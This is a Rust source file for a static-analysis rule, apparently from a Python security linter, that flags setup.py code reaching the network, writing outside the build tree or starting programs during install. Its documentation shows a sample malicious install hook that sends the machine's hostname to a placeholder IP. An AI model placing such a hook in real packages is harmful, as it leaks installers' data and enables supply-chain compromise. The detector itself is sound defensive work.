use super::context::{self, Runs};
use crate::call_filter::CallFilter;
use crate::checker::Checker;
use crate::declare_rule;
use crate::rule::Category;
use vigil_knowledge::supply_chain as sc;
use vigil_python::Ranged;
use vigil_python::ast::ExprCall;
use vigil_report::{Confidence, Severity};

fn names() -> Vec<&'static str> {
    context::with_process_functions(&[
        sc::NETWORK_CONNECT,
        sc::NETWORK_FETCH,
        sc::NETWORK_SEND,
        sc::FILE_OPENERS,
        sc::FILE_COPIERS,
    ])
}

fn methods() -> Vec<&'static str> {
    sc::PATH_WRITE_METHODS.to_vec()
}

fn check(checker: &mut Checker, call: &ExprCall, qualified: Option<&str>) {
    if !context::is_setup_script(checker) {
        return;
    }
    let when = match context::when_it_runs(checker) {
        Runs::AtLoad => "at install time".to_string(),
        Runs::InCommand(class) => format!("in its `{class}` command"),
        Runs::InHook(hook) => format!("in its `{hook}` hook, which pip calls to build it"),
        Runs::Later => return,
    };
    let callee = checker.lazy_snippet(&*call.func);
    let script = context::build_script(checker);
    if let Some(q) = qualified {
        if context::is_network(q) {
            checker.report(
                &RULE,
                call.range(),
                format!("{script} reaches the network (`{callee}`) {when}: installing the package sends or fetches data"),
            );
            return;
        }
        if context::is_process(q) {
            let Some(shown) = context::started_program(checker, call, q, callee) else {
                return;
            };
            checker
                .report(
                    &RULE,
                    call.range(),
                    format!("{script} runs a program {when}: `{shown}`"),
                )
                .severity(Severity::Medium)
                .confidence(Confidence::Low);
            return;
        }
    }
    if let Some(target) = context::written_path(call, qualified, checker)
        && let Some(path) = context::path_text(checker, target)
        && context::is_outside_build_tree(&path)
    {
        checker.report(
            &RULE,
            call.range(),
            format!(
                "{script} writes `{}` {when}, outside the package's build tree",
                context::short(&path)
            ),
        );
    }
}

declare_rule! {
    /// ## What it does
    /// Flags code in a `setup.py` that reaches the network, writes outside the build tree or starts programs when the package is installed.
    ///
    /// Flags code in a `setup.py` (a file named `setup.py` outside any
    /// package) that runs when the package is built or installed and does
    /// more than describe the package: network access, writes outside the
    /// build tree (absolute paths, the home folder), and, with medium
    /// severity, programs started. It looks at module-level code (not
    /// under `if __name__ == "__main__":`) and at the methods of custom
    /// commands (`cmdclass` classes that subclass a setuptools or
    /// distutils command such as `install`, `develop`, `egg_info` or
    /// `build_py`). An sdist's in-tree build backend (the module its
    /// `pyproject.toml` names with `build-backend` under `backend-path`) is
    /// judged the same way: its module-level code and its PEP 517 hooks
    /// (`build_wheel`, `build_sdist`, `prepare_metadata_for_build_wheel`,
    /// ...) run when pip builds the package. Reading a README or a version file, `find_packages`
    /// and `setup()` itself are never flagged. `exec` and `eval` of
    /// hidden or downloaded code are the `obfuscated-code-execution` and
    /// `download-and-execute` rules.
    ///
    /// ## Why is this bad?
    /// `pip install` of an sdist runs its `setup.py` with the rights of
    /// the user installing it, before anyone has imported or reviewed the
    /// package. Malicious packages use exactly this moment: a typosquatted
    /// name, a `setup.py` that downloads a payload, drops a file in the
    /// home folder or starts a program. A legitimate build needs none of
    /// these (a compiler started by `build_ext` is the usual exception,
    /// hence the lower severity of programs).
    ///
    /// ## Example
    /// ```python
    /// from setuptools import setup
    /// from setuptools.command.install import install
    /// import urllib.request
    ///
    /// class PostInstall(install):
    ///     def run(self):
    ///         install.run(self)
    ///         urllib.request.urlopen("http://203.0.113.5/ping?host=" + socket.gethostname())
    ///
    /// setup(name="pkg", cmdclass={"install": PostInstall})
    /// ```
    ///
    /// ## Use instead
    /// Declare the package (metadata, dependencies, entry points) and let
    /// the build backend do the rest; move anything else to an explicit
    /// command users run on purpose:
    /// ```python
    /// from setuptools import setup
    ///
    /// setup(name="pkg", packages=["pkg"])
    /// ```
    ///
    /// ## References
    /// - CWE-506: Embedded Malicious Code
    /// - CWE-829: Inclusion of Functionality from Untrusted Control Sphere
    pub static RULE = {
        name: "install-time-code",
        category: Category::SupplyChain,
        cwe: &[506, 829],
        severity: Severity::High,
        confidence: Confidence::Medium,
        bandit: &[],
        ruff: &[],
        help: "Check what this code does when the package is installed: a setup.py should only describe the package; network access, files outside the build tree and started programs are what malicious packages do at install time.",
        on_call: check,
        call_filter: CallFilter { names, methods, ..CallFilter::NONE },
    };
}
